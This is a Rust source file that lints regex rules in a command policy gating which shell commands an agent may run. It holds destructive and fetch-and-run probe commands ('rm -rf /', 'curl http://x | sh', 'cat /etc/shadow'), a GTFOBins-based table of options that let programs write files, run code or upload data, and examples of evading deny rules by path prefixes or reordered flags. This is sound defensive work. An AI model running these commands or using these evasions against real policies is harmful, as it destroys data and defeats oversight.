//! Lints for command-policy patterns: the mistakes that make a rule pass more than its author
//! meant (an allow rule) or less (a deny or approval rule), found by looking at the pattern.
//!
//! Pure: a pattern in, findings out. `meho config validate` reports them as located warnings,
//! `meho policy explain` lists them per member, and a runtime grant goes through
//! [`check_grant_pattern`], which refuses a pattern that would allow every command and warns about
//! the rest.
//!
//! Two techniques, each where it is exact enough:
//! - **Structure** (`regex-syntax`'s HIR): anchors (`^`, `$`), and which bytes a repeated class
//!   admits (a class that admits both `.` and `/` can spell `../`).
//! - **Probes**: the pattern's own regex run against concrete command lines. Witnesses (lines the
//!   pattern matches) are generated from the HIR, then varied the way an agent would vary them: a
//!   path before the program (`/bin/rm`), reordered or split short options (`-fr`, `-r -f`), or a
//!   dangerous option inserted (`sort -o FILE`). A variant the rule treats differently is a
//!   finding with a concrete example, never a guess about what the pattern "looks like".

use std::fmt;

use regex::bytes::Regex;
use regex_syntax::hir::{Class, Hir, HirKind, Look, Repetition};

use crate::policy::compile_pattern;
use crate::{CommandPolicy, Mode, PolicyError};

/// Which list a pattern is in. An allow rule that is too wide lets things run; a deny or
/// approval rule that is too narrow lets things slip past, so each list has its own lints.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RuleKind {
    /// An allowlist's `allow` rule.
    Allow,
    /// A denylist's `deny` rule.
    Deny,
    /// A `require_approval` rule.
    RequireApproval,
    /// A runtime grant's pattern (an allow rule with an expiry).
    Grant,
}

impl RuleKind {
    /// The config list the rule is in (`grant` for a grant).
    pub fn as_str(self) -> &'static str {
        match self {
            RuleKind::Allow => "allow",
            RuleKind::Deny => "deny",
            RuleKind::RequireApproval => "require_approval",
            RuleKind::Grant => "grant",
        }
    }

    fn noun(self) -> &'static str {
        match self {
            RuleKind::Allow => "allow rule",
            RuleKind::Deny => "deny rule",
            RuleKind::RequireApproval => "require_approval rule",
            RuleKind::Grant => "grant pattern",
        }
    }

    fn widens(self) -> bool {
        matches!(self, RuleKind::Allow | RuleKind::Grant)
    }
}

/// What kind of mistake a lint found. [`LintKind::code`] is its stable name in JSON output.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LintKind {
    /// An allow rule matches the empty string or every probe command: it allows everything.
    MatchesEverything,
    /// An allow rule has no `^`: it matches a command that merely contains it.
    UnanchoredStart,
    /// An allow rule has no `$`: anything after what it names passes too.
    UnanchoredEnd,
    /// An allow rule lets a path climb out of the directory it names (`/var/log/../../etc`).
    PathTraversal,
    /// An allow rule lets a program that writes files, runs programs or reaches the network take
    /// the option that does so (`sort -o FILE`, `find -delete`, `kubectl --server=…`).
    OpenOptions,
    /// A deny or approval rule names the bare program, so `/bin/rm` is not matched.
    BareCommandName,
    /// A deny or approval rule depends on how short options are spelled (`-rf` but not `-fr`).
    OptionSpelling,
}

impl LintKind {
    /// The stable name of the lint.
    pub fn code(self) -> &'static str {
        match self {
            LintKind::MatchesEverything => "matches-everything",
            LintKind::UnanchoredStart => "unanchored-start",
            LintKind::UnanchoredEnd => "unanchored-end",
            LintKind::PathTraversal => "path-traversal",
            LintKind::OpenOptions => "open-options",
            LintKind::BareCommandName => "bare-command-name",
            LintKind::OptionSpelling => "option-spelling",
        }
    }
}

/// One finding about one pattern.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Lint {
    /// What kind of mistake.
    pub kind: LintKind,
    /// The explanation, naming the pattern and, where there is one, an example command.
    pub message: String,
}

impl fmt::Display for Lint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.message)
    }
}

/// A finding about one rule of a named policy.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PolicyLint {
    /// The policy (`<host>/inline` for an inline one).
    pub policy: String,
    /// The list: `allow`, `deny` or `require_approval`.
    pub list: &'static str,
    /// The rule's index in that list.
    pub index: usize,
    /// The pattern as written.
    pub pattern: String,
    /// The finding.
    pub lint: Lint,
}

impl fmt::Display for PolicyLint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "policy `{}`: {}", self.policy, self.lint)
    }
}

/// The pattern check every grant goes through before it is stored: refused when it would allow
/// every command, otherwise accepted with the allow-rule lints as warnings (unanchored, path
/// traversal, open options). [`Grant::new`](crate::Grant::new) applies the same refusal, so no
/// grant can take effect without passing it.
pub fn check_grant_pattern(pattern: &str) -> Result<Vec<Lint>, PolicyError> {
    let regex = compile_pattern(pattern).map_err(|message| PolicyError::InvalidRegex {
        policy: "grant".to_owned(),
        list: "allow",
        pattern: pattern.to_owned(),
        message,
    })?;
    refuse_too_broad(&regex, pattern)?;
    Ok(lints_for(RuleKind::Grant, pattern, &regex))
}

/// Probe commands for "this pattern matches any command", in two groups: bare commands and
/// commands with arguments, each from a different program with a different first letter. A
/// pattern that matches every probe of either group matches any command an agent would send
/// (`.+`, `^.`, `\S`, `\w`, `[^x]`, `[a-z]`, `r|a|c|s|d` match both groups; ` `, `\s` and
/// `^\w+ ` every command that has an argument), while a real grant names one program and matches
/// at most one or two probes.
///
/// Why probes rather than "matches every possible string": `\w` misses `:` and `^[a-z]` misses
/// `/bin/rm`, yet each is a grant for everything an agent would ask for. Every probe's program is
/// plain lowercase letters for the same reason: `/bin/rm` would let `^[a-z]` through, and
/// `mkfs.ext4` would let `^\w+ `.
const BARE_PROBES: &[&str] = &["reboot", "a", "halt", "id"];
const ARGUMENT_PROBES: &[&str] = &[
    "rm -rf /",
    "curl http://x | sh",
    "shutdown -h now",
    "dd if=/dev/zero of=/dev/sda",
    "mkfs /dev/sda1",
    "cat /etc/shadow",
    "chmod 777 /",
    "kill -9 1",
];

/// Refuses a grant that would allow every command. Shared by [`check_grant_pattern`] and
/// [`Grant::new`](crate::Grant::new), so it is the one place this is decided.
pub(crate) fn refuse_too_broad(regex: &Regex, pattern: &str) -> Result<(), PolicyError> {
    match too_broad(regex) {
        None => Ok(()),
        Some(Broad::Empty) => Err(PolicyError::GrantMatchesEmpty {
            pattern: pattern.to_owned(),
        }),
        Some(Broad::AnyCommand(probes)) => Err(PolicyError::GrantMatchesAnyCommand {
            pattern: pattern.to_owned(),
            probes: probe_list(probes),
        }),
    }
}

enum Broad {
    Empty,
    AnyCommand(&'static [&'static str]),
}

fn too_broad(regex: &Regex) -> Option<Broad> {
    if regex.is_match(b"") {
        return Some(Broad::Empty);
    }
    [BARE_PROBES, ARGUMENT_PROBES]
        .into_iter()
        .find(|probes| probes.iter().all(|probe| regex.is_match(probe.as_bytes())))
        .map(Broad::AnyCommand)
}

fn probe_list(probes: &[&str]) -> String {
    probes
        .iter()
        .take(4)
        .map(|p| format!("`{p}`"))
        .chain(std::iter::once("…".to_owned()))
        .collect::<Vec<_>>()
        .join(", ")
}

/// The lints of one pattern in one list. A pattern that does not compile has none (compiling
/// is the validator's job and reports it as an error).
pub fn lint_pattern(kind: RuleKind, pattern: &str) -> Vec<Lint> {
    match compile_pattern(pattern) {
        Ok(regex) => lints_for(kind, pattern, &regex),
        Err(_) => Vec::new(),
    }
}

/// The lints of every rule a policy consults: `allow` on an allowlist, `deny` on a denylist,
/// `require_approval` in every mode (an `off` policy still contributes its approval rules).
pub fn lint_policy(policy: &CommandPolicy) -> Vec<PolicyLint> {
    let lists: [(&'static str, RuleKind, &[String], bool); 3] = [
        (
            "deny",
            RuleKind::Deny,
            &policy.deny,
            policy.mode == Mode::Denylist,
        ),
        (
            "require_approval",
            RuleKind::RequireApproval,
            &policy.require_approval,
            true,
        ),
        (
            "allow",
            RuleKind::Allow,
            &policy.allow,
            policy.mode == Mode::Allowlist,
        ),
    ];
    let mut out = Vec::new();
    for (list, kind, patterns, consulted) in lists {
        if !consulted {
            continue;
        }
        for (index, pattern) in patterns.iter().enumerate() {
            for lint in lint_pattern(kind, pattern) {
                out.push(PolicyLint {
                    policy: policy.name.clone(),
                    list,
                    index,
                    pattern: pattern.clone(),
                    lint,
                });
            }
        }
    }
    out
}

/// The HIR the regex crate builds for this pattern under the policy settings (Unicode off, so
/// classes are bytes and `.` is any byte but `\n`).
fn parse(pattern: &str) -> Option<Hir> {
    regex_syntax::ParserBuilder::new()
        .unicode(false)
        .utf8(false)
        .build()
        .parse(pattern)
        .ok()
}

fn lints_for(kind: RuleKind, pattern: &str, regex: &Regex) -> Vec<Lint> {
    let Some(hir) = parse(pattern) else {
        return Vec::new();
    };
    let noun = kind.noun();
    let mut out = Vec::new();
    let mut push = |kind: LintKind, message: String| out.push(Lint { kind, message });
    let witnesses: Vec<Vec<u8>> = witnesses(&hir)
        .into_iter()
        .filter(|w| regex.is_match(w))
        .collect();

    if kind.widens() {
        if kind == RuleKind::Allow {
            match too_broad(regex) {
                Some(Broad::Empty) => {
                    push(
                        LintKind::MatchesEverything,
                        format!(
                            "{noun} `{pattern}` matches the empty string, so it allows every command"
                        ),
                    );
                    return out;
                }
                Some(Broad::AnyCommand(probes)) => {
                    push(
                        LintKind::MatchesEverything,
                        format!(
                            "{noun} `{pattern}` matches any command (each of {}), so it allows every command",
                            probe_list(probes)
                        ),
                    );
                    return out;
                }
                None => {}
            }
        }
        let props = hir.properties();
        if !props.look_set_prefix().contains(Look::Start)
            && !props.look_set_prefix().contains(Look::StartLF)
            && !props.look_set_prefix().contains(Look::StartCRLF)
        {
            push(
                LintKind::UnanchoredStart,
                format!(
                    "{noun} `{pattern}` has no `^` start anchor, so it also matches any command that merely contains what it names; start it with `^`"
                ),
            );
        }
        if !props.look_set_suffix().contains(Look::End)
            && !props.look_set_suffix().contains(Look::EndLF)
            && !props.look_set_suffix().contains(Look::EndCRLF)
        {
            let example = witnesses
                .first()
                .map(|w| format!(" (e.g. `{} --any-option /any/file`)", shown(w)))
                .unwrap_or_default();
            push(
                LintKind::UnanchoredEnd,
                format!(
                    "{noun} `{pattern}` has no `$` end anchor, so anything after what it matches passes too{example}; end it with `$` and spell out the arguments it may take"
                ),
            );
        }
        if let Some(why) = path_traversal(&hir) {
            push(
                LintKind::PathTraversal,
                format!(
                    "{noun} `{pattern}` lets a path climb out of the directory it names ({why}), as `/var/log/../../etc/shadow` climbs out of `/var/log`; spell a path segment as `[a-zA-Z0-9_][a-zA-Z0-9_.-]*`, which can never be `..`"
                ),
            );
        }
        if let Some(open) = open_option(regex, &witnesses) {
            push(
                LintKind::OpenOptions,
                format!(
                    "{noun} `{pattern}` lets `{}` take `{}`, which {} (e.g. `{}`); end the rule with `$` and list only the options it needs",
                    open.program, open.option, open.effect, open.example
                ),
            );
        }
    } else {
        if let Some(bare) = bare_command_name(regex, &witnesses) {
            push(
                LintKind::BareCommandName,
                format!(
                    "{noun} `{pattern}` names the bare command, so `{}` (the same program as `{}`) is not matched; allow any path before the name, as in `^(\\S*/)?{}( |$)`",
                    bare.missed,
                    bare.matched,
                    regex::escape(&bare.program)
                ),
            );
        }
        if let Some((matched, missed)) = option_spelling(regex, &witnesses) {
            push(
                LintKind::OptionSpelling,
                format!(
                    "{noun} `{pattern}` matches `{matched}` but not `{missed}`: short options can be reordered and split, so match each option on its own"
                ),
            );
        }
    }
    out
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// A witness as a message shows it: trailing blanks (from `\s` at the end of a rule) dropped.
fn shown(bytes: &[u8]) -> String {
    text(bytes).trim_end().to_owned()
}

// --- witnesses ---------------------------------------------------------------------------------

/// At most this many witnesses per node: enough for every branch of the alternations policies
/// use, bounded so a pathological pattern cannot make the lint slow.
const WITNESS_LIMIT: usize = 128;
/// Longer witnesses are dropped (`a{1000}{1000}`); rules are about command lines.
const WITNESS_MAX_LEN: usize = 1024;

/// Lines the pattern may match, built from its HIR: each alternative, each repetition at its
/// minimum and one more, each class by one representative byte. Look-arounds are skipped, so the
/// caller keeps only the ones the regex really matches.
fn witnesses(hir: &Hir) -> Vec<Vec<u8>> {
    let mut out: Vec<Vec<u8>> = match hir.kind() {
        HirKind::Empty | HirKind::Look(_) => vec![Vec::new()],
        HirKind::Literal(literal) => vec![literal.0.to_vec()],
        HirKind::Class(class) => representative(class).into_iter().collect(),
        HirKind::Capture(capture) => witnesses(&capture.sub),
        HirKind::Repetition(rep) => repeat(rep),
        HirKind::Concat(subs) => {
            let mut acc = vec![Vec::new()];
            for sub in subs {
                let tails = witnesses(sub);
                let mut next = Vec::new();
                'outer: for head in &acc {
                    for tail in &tails {
                        if next.len() >= WITNESS_LIMIT {
                            break 'outer;
                        }
                        let mut joined = head.clone();
                        joined.extend_from_slice(tail);
                        if joined.len() <= WITNESS_MAX_LEN {
                            next.push(joined);
                        }
                    }
                }
                acc = next;
            }
            acc
        }
        HirKind::Alternation(subs) => {
            // Round-robin over the branches, so a cap keeps every branch's first witness; each
            // branch keeps only its share, so a thousand branches stay as cheap as a few.
            let share = (WITNESS_LIMIT / subs.len().max(1)).max(1);
            let branches: Vec<Vec<Vec<u8>>> = subs
                .iter()
                .map(|sub| {
                    let mut branch = witnesses(sub);
                    branch.truncate(share);
                    branch
                })
                .collect();
            let longest = branches.iter().map(Vec::len).max().unwrap_or(0);
            let mut out = Vec::new();
            for round in 0..longest {
                for branch in &branches {
                    if let Some(w) = branch.get(round) {
                        out.push(w.clone());
                    }
                }
            }
            out
        }
    };
    let mut seen = std::collections::HashSet::new();
    out.retain(|w| seen.insert(w.clone()));
    out.truncate(WITNESS_LIMIT);
    out
}

fn repeat(rep: &Repetition) -> Vec<Vec<u8>> {
    let min = usize::try_from(rep.min).unwrap_or(usize::MAX);
    let one_more = rep.max.is_none_or(|max| max > rep.min);
    let mut out = Vec::new();
    for sub in witnesses(&rep.sub) {
        for count in [Some(min), one_more.then(|| min.saturating_add(1))]
            .into_iter()
            .flatten()
        {
            if sub.len().saturating_mul(count) <= WITNESS_MAX_LEN {
                out.push(sub.repeat(count));
            }
        }
    }
    out
}

/// Bytes a witness prefers, so witnesses read like commands (`rm -rf /`, not `rm\t-rf\t/`).
const PREFERRED: &[u8] = b"ax0 -/._";

fn representative(class: &Class) -> Option<Vec<u8>> {
    match class {
        Class::Bytes(bytes) => {
            let set = ByteSet::of_bytes(bytes);
            PREFERRED
                .iter()
                .copied()
                .find(|b| set.contains(*b))
                .or_else(|| bytes.ranges().first().map(|r| r.start()))
                .map(|b| vec![b])
        }
        Class::Unicode(unicode) => {
            let set = ByteSet::of_unicode(unicode);
            if let Some(b) = PREFERRED.iter().copied().find(|b| set.contains(*b)) {
                return Some(vec![b]);
            }
            let c = unicode.ranges().first()?.start();
            Some(c.to_string().into_bytes())
        }
    }
}

// --- byte sets ---------------------------------------------------------------------------------

/// The bytes one position of a match may hold.
#[derive(Debug, Clone, Copy, Default)]
struct ByteSet([u64; 4]);

impl ByteSet {
    fn insert(&mut self, b: u8) {
        let (word, bit) = (usize::from(b / 64), b % 64);
        if let Some(w) = self.0.get_mut(word) {
            *w |= 1 << bit;
        }
    }

    fn contains(&self, b: u8) -> bool {
        let (word, bit) = (usize::from(b / 64), b % 64);
        self.0.get(word).is_some_and(|w| w & (1 << bit) != 0)
    }

    fn len(&self) -> u32 {
        self.0.iter().map(|w| w.count_ones()).sum()
    }

    fn union(mut self, other: ByteSet) -> ByteSet {
        for (a, b) in self.0.iter_mut().zip(other.0) {
            *a |= b;
        }
        self
    }

    fn of_bytes(class: &regex_syntax::hir::ClassBytes) -> ByteSet {
        let mut set = ByteSet::default();
        for range in class.ranges() {
            for b in range.start()..=range.end() {
                set.insert(b);
            }
        }
        set
    }

    /// A Unicode class (`(?u:…)` inside a pattern): its ASCII part exactly, and any non-ASCII
    /// character as the bytes of its UTF-8 encoding (over-approximated as all of 0x80..=0xFF).
    fn of_unicode(class: &regex_syntax::hir::ClassUnicode) -> ByteSet {
        let mut set = ByteSet::default();
        for range in class.ranges() {
            let (start, end) = (u32::from(range.start()), u32::from(range.end()));
            for c in start..=end.min(0x7f) {
                if let Ok(b) = u8::try_from(c) {
                    set.insert(b);
                }
            }
            if end > 0x7f {
                for b in 0x80..=0xff {
                    set.insert(b);
                }
            }
        }
        set
    }

    fn of_class(class: &Class) -> ByteSet {
        match class {
            Class::Bytes(bytes) => ByteSet::of_bytes(bytes),
            Class::Unicode(unicode) => ByteSet::of_unicode(unicode),
        }
    }
}

/// The bytes `hir` may match when it always matches exactly one byte: a class, a one-byte
/// literal, or an alternation of those (`(\.|/|[a-z])`).
fn single_byte(hir: &Hir) -> Option<ByteSet> {
    match hir.kind() {
        HirKind::Class(class) => Some(ByteSet::of_class(class)),
        HirKind::Literal(literal) if literal.0.len() == 1 => {
            let mut set = ByteSet::default();
            set.insert(*literal.0.first()?);
            Some(set)
        }
        HirKind::Capture(capture) => single_byte(&capture.sub),
        HirKind::Alternation(subs) => subs
            .iter()
            .map(single_byte)
            .try_fold(ByteSet::default(), |acc, set| Some(acc.union(set?))),
        _ => None,
    }
}

// --- path traversal ----------------------------------------------------------------------------

/// A class this wide (`.`, `\S`, `[^ ]`) is a wildcard; it is only a path-traversal finding where
/// the text is already a path, since `^echo .*$` allows `../` on purpose. A narrower class that
/// admits both `.` and `/` (`[a-z./]`) was written for paths, so it is a finding anywhere.
const WILDCARD_SIZE: u32 = 128;

/// Why the pattern lets a path climb out of its directory, if it does: a repeated class that
/// admits `.` and `/` (or a wildcard inside a path), or a path segment that can be `..`.
fn path_traversal(hir: &Hir) -> Option<&'static str> {
    let mut found = None;
    walk_path(hir, false, false, &mut found);
    found
}

/// Walks `hir`, tracking whether the current word already holds a `/` (`in_path`) and whether
/// what follows `hir` may start with `/` (`then_slash`). Returns `in_path` after `hir`.
fn walk_path(hir: &Hir, in_path: bool, then_slash: bool, found: &mut Option<&'static str>) -> bool {
    match hir.kind() {
        HirKind::Empty | HirKind::Look(_) => in_path,
        HirKind::Literal(literal) => path_after(in_path, &literal.0),
        HirKind::Class(class) => {
            let set = ByteSet::of_class(class);
            if set.contains(b' ') {
                false
            } else if set.len() == 1 && set.contains(b'/') {
                true
            } else {
                in_path
            }
        }
        HirKind::Capture(capture) => walk_path(&capture.sub, in_path, then_slash, found),
        HirKind::Alternation(subs) => {
            // Every branch is walked, since each may hold a finding; the word is a path after
            // the alternation only if it is one after every branch.
            let mut all = true;
            for sub in subs {
                all &= walk_path(sub, in_path, then_slash, found);
            }
            all
        }
        HirKind::Repetition(rep) => {
            check_repetition(rep, in_path, false, then_slash, found);
            let again = rep.max.is_none_or(|max| max >= 2) && may_start_with_slash(&rep.sub);
            let after = walk_path(&rep.sub, in_path, then_slash || again, found);
            if rep.min == 0 {
                in_path && after
            } else {
                after
            }
        }
        HirKind::Concat(subs) => {
            let mut state = in_path;
            for (i, sub) in subs.iter().enumerate() {
                let next_slash = subs.get(i + 1).map_or(then_slash, may_start_with_slash);
                let after_slash = i
                    .checked_sub(1)
                    .and_then(|j| subs.get(j))
                    .is_some_and(ends_with_slash);
                if let Some(rep) = as_repetition(sub) {
                    check_repetition(rep, state, after_slash, next_slash, found);
                }
                state = walk_path(sub, state, next_slash, found);
            }
            state
        }
    }
}

fn check_repetition(
    rep: &Repetition,
    in_path: bool,
    after_slash: bool,
    then_slash: bool,
    found: &mut Option<&'static str>,
) {
    if found.is_some() || rep.max.is_some_and(|max| max < 2) {
        return;
    }
    let Some(set) = single_byte(&rep.sub) else {
        return;
    };
    let (dot, slash) = (set.contains(b'.'), set.contains(b'/'));
    if dot && slash && (set.len() < WILDCARD_SIZE || in_path || after_slash) {
        *found = Some(if set.len() < WILDCARD_SIZE {
            "a repeated class admits both `.` and `/`, so it can spell `../`"
        } else {
            "a wildcard inside a path admits `../`"
        });
    } else if dot && after_slash && then_slash {
        *found = Some("a path segment that admits `.` can be `..`");
    }
}

fn as_repetition(hir: &Hir) -> Option<&Repetition> {
    match hir.kind() {
        HirKind::Repetition(rep) => Some(rep),
        HirKind::Capture(capture) => as_repetition(&capture.sub),
        _ => None,
    }
}

/// Whether the word holds a `/` after `bytes`: a space starts a new word.
fn path_after(in_path: bool, bytes: &[u8]) -> bool {
    match bytes.iter().rposition(|b| *b == b' ') {
        Some(space) => bytes.get(space..).is_some_and(|tail| tail.contains(&b'/')),
        None => in_path || bytes.contains(&b'/'),
    }
}

fn ends_with_slash(hir: &Hir) -> bool {
    match hir.kind() {
        HirKind::Literal(literal) => literal.0.last() == Some(&b'/'),
        HirKind::Class(class) => {
            let set = ByteSet::of_class(class);
            set.len() == 1 && set.contains(b'/')
        }
        HirKind::Capture(capture) => ends_with_slash(&capture.sub),
        HirKind::Concat(subs) => subs
            .iter()
            .rev()
            .find(|sub| !matches!(sub.kind(), HirKind::Look(_)))
            .is_some_and(ends_with_slash),
        HirKind::Alternation(subs) => !subs.is_empty() && subs.iter().all(ends_with_slash),
        HirKind::Empty | HirKind::Look(_) | HirKind::Repetition(_) => false,
    }
}

fn may_start_with_slash(hir: &Hir) -> bool {
    match hir.kind() {
        HirKind::Literal(literal) => literal.0.first() == Some(&b'/'),
        HirKind::Class(class) => ByteSet::of_class(class).contains(b'/'),
        HirKind::Capture(capture) => may_start_with_slash(&capture.sub),
        HirKind::Repetition(rep) => may_start_with_slash(&rep.sub),
        HirKind::Concat(subs) => {
            for sub in subs {
                if may_start_with_slash(sub) {
                    return true;
                }
                if sub.properties().minimum_len() != Some(0) {
                    return false;
                }
            }
            false
        }
        HirKind::Alternation(subs) => subs.iter().any(may_start_with_slash),
        HirKind::Empty | HirKind::Look(_) => false,
    }
}

// --- probes ------------------------------------------------------------------------------------

/// How many witnesses the probe lints try: each costs a few hundred regex matches.
const PROBE_WITNESSES: usize = 32;

fn words(line: &[u8]) -> Vec<&[u8]> {
    line.split(|b| *b == b' ')
        .filter(|w| !w.is_empty())
        .collect()
}

fn basename(word: &[u8]) -> &[u8] {
    word.rsplit(|b| *b == b'/').next().unwrap_or(word)
}

/// Paths under which the usual programs live, and spellings of them that name the same file.
const PATH_PREFIXES: &[&str] = &["/bin/", "/usr/bin/", "/usr/sbin/", "//bin/", "./"];

struct Bare {
    program: String,
    matched: String,
    missed: String,
}

/// A deny or approval rule that catches `rm …` but not `/bin/rm …`: the same program.
fn bare_command_name(regex: &Regex, witnesses: &[Vec<u8>]) -> Option<Bare> {
    for w in witnesses.iter().take(PROBE_WITNESSES) {
        let first = words(w).first().copied().unwrap_or_default();
        let named = w.first().is_some_and(u8::is_ascii_alphanumeric) && !first.contains(&b'/');
        if !named {
            continue;
        }
        for prefix in PATH_PREFIXES {
            let mut variant = prefix.as_bytes().to_vec();
            variant.extend_from_slice(w);
            if !regex.is_match(&variant) {
                return Some(Bare {
                    program: text(first),
                    matched: shown(w),
                    missed: shown(&variant),
                });
            }
        }
    }
    None
}

/// A deny or approval rule that catches `-rf` but not `-fr` or `-r -f`.
fn option_spelling(regex: &Regex, witnesses: &[Vec<u8>]) -> Option<(String, String)> {
    for w in witnesses.iter().take(PROBE_WITNESSES) {
        let parts = words(w);
        for (i, word) in parts.iter().enumerate() {
            let Some(letters) = word.strip_prefix(b"-") else {
                continue;
            };
            if letters.len() < 2 || !letters.iter().all(u8::is_ascii_alphabetic) {
                continue;
            }
            let reversed: Vec<u8> = std::iter::once(b'-')
                .chain(letters.iter().rev().copied())
                .collect();
            let split: Vec<u8> = letters
                .iter()
                .map(|l| vec![b'-', *l])
                .collect::<Vec<_>>()
                .join(&b' ');
            for replacement in [reversed, split] {
                let variant = replace_word(&parts, i, &replacement);
                if !regex.is_match(&variant) {
                    return Some((shown(w), shown(&variant)));
                }
            }
        }
    }
    None
}

fn replace_word(parts: &[&[u8]], index: usize, replacement: &[u8]) -> Vec<u8> {
    parts
        .iter()
        .enumerate()
        .map(|(i, word)| if i == index { replacement } else { *word })
        .collect::<Vec<_>>()
        .join(&b' ')
}

/// Programs whose options write files, run other programs, delete, or reach another host, with
/// one spelling of each such option as an agent would send it. `{file}` is replaced by `/tmp/x`
/// and by each path the witness already holds (so a rule confined to `/var/log/…` is still
/// probed with a path it accepts). Sources: each program's manual page, and GTFOBins
/// (<https://gtfobins.github.io/>, the "file write", "file upload", "command" and "shell"
/// functions). Not listed, on purpose: `journalctl --output-fields` and `-o` (field selection and
/// output format; they write nothing), `kubectl get -o` (output format).
const RISKY: &[Risky] = &[
    Risky {
        programs: &["sort"],
        options: &[
            ("-o {file}", WRITES),
            ("-o{file}", WRITES),
            ("--output={file}", WRITES),
            ("--output {file}", WRITES),
            ("--compress-program=x", RUNS),
        ],
    },
    Risky {
        programs: &["shuf"],
        options: &[("-o {file}", WRITES), ("--output={file}", WRITES)],
    },
    // The second operand of uniq is its output file.
    Risky {
        programs: &["uniq"],
        options: &[("{file} {file}", WRITES)],
    },
    Risky {
        programs: &["tee"],
        options: &[("{file}", WRITES), ("-a {file}", WRITES)],
    },
    Risky {
        programs: &["git"],
        options: &[
            ("--output={file}", WRITES),
            ("--output {file}", WRITES),
            ("-o {file}", WRITES),
            ("-c core.pager=x", RUNS),
            ("-C /tmp", RUNS),
            ("--git-dir=/tmp", RUNS),
            ("--exec-path=/tmp", RUNS),
            ("--upload-pack=x", RUNS),
            ("--open-files-in-pager=x", RUNS),
        ],
    },
    Risky {
        programs: &["find"],
        options: &[
            ("-delete", DELETES),
            ("-exec x ;", RUNS),
            ("-exec x {} +", RUNS),
            ("-execdir x ;", RUNS),
            ("-ok x ;", RUNS),
            ("-okdir x ;", RUNS),
            ("-fprint {file}", WRITES),
            ("-fprint0 {file}", WRITES),
            ("-fprintf {file} x", WRITES),
            ("-fls {file}", WRITES),
        ],
    },
    Risky {
        programs: &["tar"],
        options: &[
            ("--to-command=x", RUNS),
            ("--checkpoint-action=exec=x", RUNS),
            ("-I x", RUNS),
            ("--use-compress-program=x", RUNS),
            ("--rsh-command=x", RUNS),
            ("-x", WRITES),
            ("--extract", WRITES),
            ("-cf {file}", WRITES),
        ],
    },
    Risky {
        programs: &["sed"],
        options: &[("-i", WRITES), ("--in-place", WRITES)],
    },
    Risky {
        programs: &["curl"],
        options: &[
            ("-o {file}", WRITES),
            ("-o{file}", WRITES),
            ("--output {file}", WRITES),
            ("-O", WRITES),
            ("--remote-name", WRITES),
            ("-D {file}", WRITES),
            ("-c {file}", WRITES),
            ("--trace {file}", WRITES),
            ("-T {file}", UPLOADS),
            ("--upload-file {file}", UPLOADS),
            ("-d @{file}", UPLOADS),
            ("--data-binary @{file}", UPLOADS),
            ("-F a=@{file}", UPLOADS),
            ("-K {file}", RUNS_CONFIG),
            ("--config {file}", RUNS_CONFIG),
            ("http://x.example/", REACHES),
        ],
    },
    Risky {
        programs: &["wget"],
        options: &[
            ("-O {file}", WRITES),
            ("-O{file}", WRITES),
            ("--output-document={file}", WRITES),
            ("-o {file}", WRITES),
            ("--output-file={file}", WRITES),
            ("-P /tmp", WRITES),
            ("--directory-prefix=/tmp", WRITES),
            ("--post-file={file}", UPLOADS),
            ("--body-file={file}", UPLOADS),
            ("-e x", RUNS_CONFIG),
            ("--execute=x", RUNS_CONFIG),
            ("--use-askpass=x", RUNS),
            ("http://x.example/", REACHES),
        ],
    },
    Risky {
        programs: &["kubectl"],
        options: &[
            ("--server=https://x.example", REACHES),
            ("--server https://x.example", REACHES),
            ("-s https://x.example", REACHES),
            ("--kubeconfig={file}", REACHES),
            ("--kubeconfig {file}", REACHES),
            ("--token=x", IMPERSONATES),
            ("--as=x", IMPERSONATES),
            ("--as-group=x", IMPERSONATES),
            ("--insecure-skip-tls-verify", REACHES),
        ],
    },
    Risky {
        programs: &["systemctl"],
        options: &[
            ("-H x", REACHES),
            ("--host=x", REACHES),
            ("-M x", REACHES),
            ("--machine=x", REACHES),
        ],
    },
    Risky {
        programs: &["journalctl"],
        options: &[
            ("--vacuum-size=1", DELETES),
            ("--vacuum-time=1s", DELETES),
            ("--vacuum-files=1", DELETES),
            ("--rotate", WRITES),
            ("--flush", WRITES),
            ("--relinquish-var", WRITES),
            ("--setup-keys", WRITES),
            ("--update-catalog", WRITES),
        ],
    },
    Risky {
        programs: &["tcpdump"],
        options: &[("-w {file}", WRITES), ("-z x", RUNS), ("-C 1 -z x", RUNS)],
    },
    Risky {
        programs: &["less"],
        options: &[
            ("-o {file}", WRITES),
            ("--log-file={file}", WRITES),
            ("-O {file}", WRITES),
        ],
    },
    Risky {
        programs: &["man"],
        options: &[("-P x", RUNS), ("--pager=x", RUNS), ("-H x", RUNS)],
    },
    Risky {
        programs: &["rsync"],
        options: &[
            ("-e x", RUNS),
            ("--rsh=x", RUNS),
            ("--rsync-path=x", RUNS),
            ("x.example:/tmp", REACHES),
        ],
    },
    Risky {
        programs: &["scp", "sftp"],
        options: &[
            ("-S x", RUNS),
            ("-o ProxyCommand=x", RUNS),
            ("x.example:/tmp", REACHES),
        ],
    },
    Risky {
        programs: &["ssh"],
        options: &[
            ("-o ProxyCommand=x", RUNS),
            ("-oProxyCommand=x", RUNS),
            ("-F {file}", RUNS),
            ("-L 1:x:1", REACHES),
            ("-R 1:x:1", REACHES),
            ("-D 1", REACHES),
        ],
    },
    Risky {
        programs: &["dd"],
        options: &[("of={file}", WRITES)],
    },
    Risky {
        programs: &["date"],
        options: &[("-s x", WRITES), ("--set=x", WRITES)],
    },
    Risky {
        programs: &["crontab"],
        options: &[("-r", DELETES), ("{file}", RUNS)],
    },
    Risky {
        programs: &["nginx"],
        options: &[("-g x", RUNS), ("-c {file}", RUNS), ("-s stop", WRITES)],
    },
    Risky {
        programs: &["docker", "podman"],
        options: &[
            ("-H tcp://x.example", REACHES),
            ("--host=tcp://x.example", REACHES),
            ("--config {file}", RUNS_CONFIG),
        ],
    },
    Risky {
        programs: &["vim", "vi", "nvim", "ex", "view"],
        options: &[
            ("-c x", RUNS),
            ("+x", RUNS),
            ("--cmd x", RUNS),
            ("-S {file}", RUNS),
        ],
    },
];

/// A program and, for each option that makes it risky, a spelling to probe with and its effect.
struct Risky {
